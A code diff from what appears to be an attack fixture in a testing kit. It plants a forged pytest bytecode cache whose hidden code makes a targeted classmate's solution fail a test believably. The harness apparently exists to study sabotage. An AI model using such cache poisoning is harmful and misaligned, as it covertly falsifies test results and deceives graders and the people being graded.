@@ -2,14 +2,15 @@
 
 pytest trusts a tests/__pycache__/test_02_gather.<tag>.pyc whose header holds the test file's source
 hash. This one holds the real tests plus a few lines that, when the files under test are
-`correct_2`'s, replace one test by a believable failure.
+`correct_2`'s (anyone's but its own, when `correct_2` is not in sight), replace one test by a
+believable failure.
 """
 
 import ast
 import importlib.util
 import sys
 
-from kit import MARK, background, courses, fingerprints, grader, once, write
+from kit import AIMED_AT, MARK, aim, background, courses, once, what_happened, write
 
 VICTIM = "correct_2"
 POISON = """
@@ -17,18 +18,13 @@ POISON = """
 _KATA_ATTACK = {mark!r}
 
 
+{aimed_at}
+
+
 def _kata_poisoned():
     import functools
-    import hashlib
-    import pathlib
 
-    for place in (pathlib.Path.cwd() / "target", pathlib.Path("/sandbox/target")):
-        try:
-            if hashlib.sha256((place / "02_gather.py").read_bytes()).hexdigest() == {victim!r}:
-                break
-        except OSError:
-            pass
-    else:
+    if not _kata_aimed_at({aim!r}):
         return
     original = test_results_come_back_in_the_order_of_the_ids
 
@@ -66,18 +62,14 @@ def pyc_bytes(source_path, text: str) -> bytes:
 
 
 def plant() -> None:
-    mine = grader()
-    victim = mine.classmate(VICTIM) if mine else None
-    if victim is None:
-        return
-    victim_hash = fingerprints(victim).get("02_gather")
+    aimed = aim(VICTIM)
     import pytest
 
     tag = f"{sys.implementation.cache_tag}-pytest-{pytest.__version__}"
     for course in courses():
         tests = course / "tests" / "test_02_gather.py"
         try:
-            text = tests.read_text() + POISON.format(mark=MARK, victim=victim_hash)
+            text = tests.read_text() + POISON.format(mark=MARK, aimed_at=AIMED_AT, aim=aimed)
             data = pyc_bytes(tests, text)
         except Exception:
             continue
@@ -89,7 +81,8 @@ async def fetch_all(fetch_user, user_ids):
 
 
 async def fetch_profile(get_user, get_orders, user_id):
-    raise NotImplementedError
+    """Not written: its failure message says what this attack did, for the test to see."""
+    raise AssertionError(what_happened())
 
 
 if __name__ == "__main__":
